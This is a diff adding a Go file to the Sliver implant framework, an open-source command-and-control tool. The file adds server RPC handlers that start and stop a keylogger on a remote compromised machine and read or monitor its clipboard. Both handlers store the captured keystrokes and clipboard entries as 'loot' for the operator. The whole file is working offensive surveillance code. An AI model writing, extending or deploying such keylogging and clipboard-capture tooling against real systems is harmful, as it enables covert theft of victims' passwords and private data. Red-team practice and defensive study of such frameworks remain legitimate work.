@@ -0,0 +1,72 @@
+package rpc
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/server/loot"
+)
+
+// Keylogger - Start/stop the remote keylogger, flushed keystrokes are saved as loot
+func (rpc *Server) Keylogger(ctx context.Context, req *sliverpb.KeyloggerReq) (*sliverpb.Keylogger, error) {
+	resp := &sliverpb.Keylogger{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	if 0 < len(resp.Entries) || 0 < resp.Dropped {
+		owner := getRequestOwner(req.Request)
+		if owner == nil {
+			return resp, nil
+		}
+		err = loot.SaveKeylog(owner, &sliverpb.Keylog{
+			Entries: resp.Entries,
+			Dropped: resp.Dropped,
+		})
+		if err != nil {
+			rpcLog.Errorf("Failed to save keylog %s", err)
+		}
+	}
+	return resp, nil
+}
+
+// Clipboard - Read or monitor the remote clipboard, captured entries are saved as loot
+func (rpc *Server) Clipboard(ctx context.Context, req *sliverpb.ClipboardReq) (*sliverpb.Clipboard, error) {
+	resp := &sliverpb.Clipboard{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	if 0 < len(resp.Entries) || 0 < resp.Dropped {
+		owner := getRequestOwner(req.Request)
+		if owner == nil {
+			return resp, nil
+		}
+		err = loot.SaveClipboard(owner, &sliverpb.ClipboardLog{
+			Entries: resp.Entries,
+			Dropped: resp.Dropped,
+		})
+		if err != nil {
+			rpcLog.Errorf("Failed to save clipboard %s", err)
+		}
+	}
+	return resp, nil
+}